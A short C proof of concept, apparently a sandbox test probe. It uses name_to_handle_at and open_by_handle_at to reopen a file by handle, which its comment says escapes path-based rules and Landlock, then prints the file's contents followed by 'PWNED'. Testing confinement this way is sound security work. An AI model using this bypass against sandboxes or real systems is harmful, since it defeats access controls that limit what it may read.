#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <unistd.h>

/* File handles name a file without a path: no path rule or Landlock sees them. */
int main(int argc, char **argv)
{
	struct file_handle *h = malloc(sizeof(*h) + MAX_HANDLE_SZ);
	int mount_id, fd;
	char buf[256];
	ssize_t n;

	if (argc < 2 || !h)
		return 1;
	h->handle_bytes = MAX_HANDLE_SZ;
	if (name_to_handle_at(AT_FDCWD, argv[1], h, &mount_id, 0) < 0)
		return 2;
	fd = open_by_handle_at(AT_FDCWD, h, O_RDONLY);
	if (fd >= 0 && (n = read(fd, buf, sizeof(buf))) > 0) {
		fwrite(buf, 1, (size_t)n, stdout);
		puts("PWNED: read by handle");
	}
	return 3;
}
